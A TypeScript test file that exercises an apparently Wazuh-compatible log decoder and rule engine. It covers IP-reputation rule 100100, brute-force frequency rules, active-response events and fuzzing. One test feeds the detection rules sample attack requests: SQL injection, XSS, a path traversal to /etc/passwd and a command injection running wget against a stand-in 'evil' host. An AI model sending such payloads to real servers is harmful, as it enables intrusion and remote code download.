// The stock ruleset and decoders from disk, plus the use case's rule 100100, end to end through the pure engines:
// line -> decoder -> rules. (The matcher service adds Kafka and Redis around exactly this.)
import { test } from "node:test";
import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { createDecoderEngineFromDirs } from "../../decoder/wazuh/index.js";
import { InMemoryCorrelationStore } from "./correlation.js";
import { RuleEngine, type RuleEngineOptions, type RuleEvent, type RuleMatch } from "./engine.js";
import { InMemoryListStore, parseListText } from "./lists.js";
import { loadRuleDirs } from "./load.js";
import { parseRuleXml } from "./parse.js";

const ROOT = new URL("../../../../", import.meta.url);
const decoders = createDecoderEngineFromDirs([fileURLToPath(new URL("ruleset/decoders", ROOT))]);
const stockRules = loadRuleDirs([fileURLToPath(new URL("ruleset/rules", ROOT))]);

// Rule 100100 exactly as the issue gives it for etc/rules/local_rules.xml ...
const RULE_100100_ISSUE = `<group name="attack,"><rule id="100100" level="10"><if_group>web|attack|attacks</if_group><list field="srcip" lookup="address_match_key">etc/lists/blacklist-alienvault</list><description>IP address found in AlienVault reputation database.</description></rule></group>`;
// ... as Wazuh's documentation of the use case gives it ...
const RULE_100100_WAZUH_DOCS = `<group name="attack,">
  <rule id="100100" level="10">
    <if_group>web|attack|attackers</if_group>
    <list field="srcip" lookup="address_match_key">etc/lists/blacklist-alienvault</list>
    <description>IP address found in AlienVault reputation database.</description>
  </rule>
</group>`;
// ... and as the use-case text shows it, without <if_group>.
const RULE_100100_NO_IF_GROUP = `<group name="attack,">
  <rule id="100100" level="10">
    <list field="srcip" lookup="address_match_key">etc/lists/blacklist-alienvault</list>
    <description>IP address found in AlienVault reputation database.</description>
  </rule>
</group>`;

// An AlienVault-style .ipset with the attacker's network (a CIDR) and a single address.
const REPUTATION = parseListText("# AlienVault reputation\n192.0.2.0/24\n198.51.100.23\n", "ipset");

function lists(): InMemoryListStore {
  const store = new InMemoryListStore();
  store.replace("etc/lists/blacklist-alienvault", REPUTATION.entries);
  return store;
}

function engineWith(localRules: string | null, options: RuleEngineOptions = {}): RuleEngine {
  const local = localRules === null ? [] : parseRuleXml(localRules, "etc/rules/local_rules.xml");
  return new RuleEngine([...stockRules, ...local], { lists: lists(), correlation: new InMemoryCorrelationStore(), ...options });
}

function toRuleEvent(line: string, timeMs: number): RuleEvent {
  const d = decoders.decode(line);
  return {
    log: d.preDecoded.log,
    fullLog: d.preDecoded.fullLog,
    decoder: d.decoder,
    category: d.category,
    ...(d.preDecoded.programName !== undefined ? { programName: d.preDecoded.programName } : {}),
    ...(d.preDecoded.hostname !== undefined ? { hostname: d.preDecoded.hostname } : {}),
    location: "/var/log/apache2/access.log",
    fields: d.fields,
    timeMs,
  };
}

function evaluate(engine: RuleEngine, line: string, timeMs = 1_700_000_000_000): RuleMatch | null {
  const result = engine.evaluate(toRuleEvent(line, timeMs));
  assert.ok(!(result instanceof Promise));
  return result;
}

const access = (ip: string, request: string, status: number): string =>
  `${ip} - - [04/Dec/2023:14:35:01 +0000] "${request}" ${status} 10701 "-" "curl/7.76.1"`;

test("the stock ruleset loads", () => {
  assert.ok(stockRules.length >= 15);
  assert.deepEqual(new RuleEngine(stockRules).warnings, []);
});

test("a bare `curl /` lands on 31108 (level 0, no alert); 4xx on 31101 (group attack); 5xx on 31120", () => {
  const engine = engineWith(null);
  const ok = evaluate(engine, access("203.0.113.50", "GET / HTTP/1.1", 200));
  assert.deepEqual([ok?.id, ok?.level, ok?.alert], ["31108", 0, false]);
  assert.deepEqual(ok?.groups, ["web", "accesslog"]);
  assert.equal(evaluate(engine, access("203.0.113.50", "GET /old HTTP/1.1", 301))?.id, "31108");
  const notFound = evaluate(engine, access("203.0.113.50", "GET /nope HTTP/1.1", 404));
  assert.deepEqual([notFound?.id, notFound?.level, notFound?.alert], ["31101", 5, true]);
  assert.ok(notFound?.groups.includes("attack"));
  assert.equal(notFound?.description, "Web request refused with client error 404.");
  assert.equal(evaluate(engine, access("203.0.113.50", "GET /boom HTTP/1.1", 503))?.id, "31120");
});

test("attack patterns: SQL injection, XSS, common attacks, and an attack answered with 200", () => {
  const engine = engineWith(null);
  const sqli = evaluate(engine, access("203.0.113.50", "GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1", 404));
  assert.deepEqual([sqli?.id, sqli?.level], ["31103", 7]);
  assert.equal(sqli?.description, "SQL injection attempt from 203.0.113.50: /item?id=1%20UNION%20SELECT%20password%20FROM%20users");
  assert.equal(evaluate(engine, access("203.0.113.50", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 404))?.id, "31105");
  assert.equal(evaluate(engine, access("203.0.113.50", "GET /../../etc/passwd HTTP/1.1", 400))?.id, "31104");
  const success = evaluate(engine, access("203.0.113.50", "GET /cgi-bin/x?cmd=;wget%20http://evil/x HTTP/1.1", 200));
  assert.deepEqual([success?.id, success?.level], ["31106", 10]);
  assert.equal(evaluate(engine, access("203.0.113.50", "GET /products?page=2 HTTP/1.1", 200))?.id, "31108");
});

for (const [name, xml] of [
  ["as the issue writes it", RULE_100100_ISSUE],
  ["as Wazuh's documentation writes it", RULE_100100_WAZUH_DOCS],
] as const) {
  test(`rule 100100 ${name}: fires at level 10 for a listed IP, not for an unlisted one`, () => {
    const engine = engineWith(xml);
    // An address inside the listed 192.0.2.0/24, requesting the landing page as the use case's curl does
    const hit = evaluate(engine, access("192.0.2.77", "GET / HTTP/1.1", 200));
    assert.deepEqual([hit?.id, hit?.level, hit?.alert], ["100100", 10, true]);
    assert.equal(hit?.description, "IP address found in AlienVault reputation database.");
    assert.deepEqual(hit?.groups, ["attack"]);
    // The single listed address, on a 404, also on Windows (CR LF) and behind a syslog header
    assert.equal(evaluate(engine, access("198.51.100.23", "GET /missing HTTP/1.1", 404))?.id, "100100");
    assert.equal(evaluate(engine, `${access("198.51.100.23", "GET / HTTP/1.1", 200)}\r\n`)?.id, "100100");
    assert.equal(evaluate(engine, `Dec  4 14:35:01 ubuntu apache2: ${access("192.0.2.1", "GET / HTTP/1.1", 200)}`)?.id, "100100");
    // Unlisted addresses: the stock rules decide, never 100100
    assert.equal(evaluate(engine, access("192.0.3.1", "GET / HTTP/1.1", 200))?.id, "31108");
    assert.equal(evaluate(engine, access("198.51.100.24", "GET /missing HTTP/1.1", 404))?.id, "31101");
  });
}

test("rule 100100 without <if_group> is a syslog-category root: with Wazuh's semantics it never sees web-log events", () => {
  const strict = engineWith(RULE_100100_NO_IF_GROUP);
  assert.equal(evaluate(strict, access("192.0.2.77", "GET / HTTP/1.1", 200))?.id, "31108");
  // With the opt-in, uncategorized roots see every category, and the rule works as the use-case text intends.
  const lenient = engineWith(RULE_100100_NO_IF_GROUP, { uncategorizedRootsMatchAnyCategory: true });
  const hit = evaluate(lenient, access("192.0.2.77", "GET / HTTP/1.1", 200));
  assert.deepEqual([hit?.id, hit?.level], ["100100", 10]);
  assert.equal(evaluate(lenient, access("192.0.3.1", "GET / HTTP/1.1", 200))?.id, "31108");
});

test("re-importing the list changes matching at once (the store swaps the list)", () => {
  const store = lists();
  const engine = new RuleEngine([...stockRules, ...parseRuleXml(RULE_100100_ISSUE)], { lists: store });
  const line = access("203.0.113.200", "GET / HTTP/1.1", 200);
  assert.equal(evaluate(engine, line)?.id, "31108");
  store.replace("etc/lists/blacklist-alienvault", parseListText("203.0.113.0/24\n", "ipset").entries);
  assert.equal(evaluate(engine, line)?.id, "100100");
});

test("31151: 14 client errors from one source within 90 s alert once; other sources and old events do not count", () => {
  const engine = engineWith(null);
  const t0 = 1_700_000_000_000;
  const scan = (ip: string, i: number, offsetMs = 0): RuleMatch | null =>
    evaluate(engine, access(ip, `GET /admin${i}.php HTTP/1.1`, 404), t0 + offsetMs + i * 1000);
  // An event long before the window does not count
  assert.equal(scan("203.0.113.7", 0, -200_000)?.id, "31101");
  for (let i = 1; i <= 13; i++) {
    assert.equal(scan("203.0.113.7", i)?.id, "31101", `event ${i}`);
    assert.equal(scan("203.0.113.8", i)?.id, "31101", "interleaved second source");
  }
  const burst = scan("203.0.113.7", 14);
  assert.deepEqual([burst?.id, burst?.level], ["31151", 10]);
  assert.equal(burst?.description, "Many client errors (4xx) from 203.0.113.7 in a short time: scanning or brute force.");
  // Counting starts again after the alert
  assert.equal(scan("203.0.113.7", 15)?.id, "31101");
  // The second source reaches 14 on its own
  assert.equal(scan("203.0.113.8", 14)?.id, "31151");
});

test("frequency with different_url counts distinct values; if_matched_group counts a group's alerts", () => {
  const engine = new RuleEngine(
    parseRuleXml(`<group name="web,">
  <rule id="1" level="0"><category>web-log</category></rule>
  <rule id="2" level="5"><if_sid>1</if_sid><id>^4</id><group>client_error,</group></rule>
  <rule id="3" level="11" frequency="3" timeframe="60"><if_matched_sid>2</if_matched_sid><same_source_ip /><different_url /></rule>
  <rule id="4" level="9" frequency="4" timeframe="60"><if_matched_group>client_error</if_matched_group><same_field>user_agent</same_field></rule>
</group>`),
  );
  const t0 = 1_700_000_000_000;
  const e = (url: string, i: number, ua = "scanner"): RuleMatch | null => {
    const result = engine.evaluate({
      log: "",
      category: "web-log",
      fields: { srcip: "203.0.113.9", url, id: "404", user_agent: ua },
      timeMs: t0 + i * 1000,
    });
    assert.ok(!(result instanceof Promise));
    return result;
  };
  assert.equal(e("/a", 1)?.id, "2");
  assert.equal(e("/a", 2)?.id, "2", "same url again: still one distinct url");
  assert.equal(e("/b", 3)?.id, "2");
  assert.equal(e("/c", 4)?.id, "3", "third distinct url");
  // Rule 4 counts the alerts of group client_error with the same user agent (rule 3's alert is not one of them)
  assert.equal(e("/x", 5, "bot")?.id, "2");
  assert.equal(e("/x", 6, "bot")?.id, "2");
  assert.equal(e("/x", 7, "bot")?.id, "2");
  assert.equal(e("/x", 8, "bot")?.id, "4");
});

test("frequency without if_matched_*: the rule counts its own matches within the timeframe", () => {
  const engine = new RuleEngine(
    parseRuleXml(`<group name="g,">
  <rule id="1" level="3"><match>login failed</match></rule>
  <rule id="2" level="8" frequency="3" timeframe="10"><if_sid>1</if_sid><same_source_ip /></rule>
</group>`),
  );
  const t0 = 1_700_000_000_000;
  const e = (offsetS: number, srcip = "10.0.0.1"): string | undefined => {
    const r = engine.evaluate({ log: "login failed", fields: { srcip }, timeMs: t0 + offsetS * 1000 });
    assert.ok(!(r instanceof Promise));
    return r?.id;
  };
  assert.equal(e(0), "1");
  assert.equal(e(20), "1", "the first one fell out of the 10 s window");
  assert.equal(e(21), "1");
  assert.equal(e(22, "10.0.0.2"), "1");
  assert.equal(e(23), "2");
});

test("active-response results: 651 block, 652 unblock by firewall-drop, 657 other programs, 658 firewall inactive", () => {
  const engine = engineWith(RULE_100100_ISSUE);
  const ar = (program: string, command: string): string =>
    `2023/12/04 14:35:02 active-response/bin/${program}: {"version":1,"origin":{"name":"ubuntu","module":"tld-agent"},"command":"${command}","parameters":{"program":"active-response/bin/${program}","alert":{"rule":{"id":"100100"},"data":{"srcip":"192.0.2.77"}},"extra_args":[]}}`;
  const block = evaluate(engine, ar("firewall-drop", "add"));
  assert.deepEqual([block?.id, block?.level, block?.description], ["651", 3, "Host 192.0.2.77 blocked by firewall-drop active response."]);
  assert.ok(block?.groups.includes("active_response"));
  assert.equal(evaluate(engine, ar("firewall-drop", "delete"))?.id, "652");
  const netsh = evaluate(engine, ar("netsh.exe", "add"));
  assert.deepEqual([netsh?.id, netsh?.description], ["657", "Active response: netsh.exe - add 192.0.2.77"]);
  const inactive = evaluate(engine, "2023/12/04 14:35:02 active-response/bin/firewall-drop: Firewall is not active");
  assert.deepEqual([inactive?.id, inactive?.level], ["658", 5]);
  // The blocked address is listed, yet 100100 does not fire on the agent's own report (not a web event)
  assert.notEqual(block?.id, "100100");
});

test("malformed and random lines never throw", () => {
  const engine = engineWith(RULE_100100_ISSUE);
  let seed = 42;
  const random = (): number => {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    return seed / 2 ** 31;
  };
  const alphabet = ' -"[]:/.%<>{}\\0123456789abcdefGETPOST\t|$()!';
  for (let i = 0; i < 3000; i++) {
    let line = "";
    const length = Math.floor(random() * 160);
    for (let j = 0; j < length; j++) line += alphabet[Math.floor(random() * alphabet.length)];
    if (i % 3 === 0) line = access(`192.0.2.${i % 256}`, line.replace(/"/g, ""), 200 + (i % 400));
    evaluate(engine, line);
  }
});
